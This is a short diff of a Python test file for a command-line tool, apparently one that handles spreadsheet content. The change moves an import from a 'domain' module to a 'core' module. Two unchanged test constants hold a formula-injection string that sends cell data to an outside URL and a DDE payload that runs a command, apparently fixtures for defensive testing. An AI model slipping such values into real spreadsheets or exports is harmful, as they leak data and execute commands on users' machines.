@@ -22,7 +22,7 @@ from click.testing import CliRunner
 
 from support.reports import Changes, report
 from vbpqip.cli import main
-from vbpqip.domain.characters import as_read, is_ignored, visible
+from vbpqip.core.characters import as_read, is_ignored, visible
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
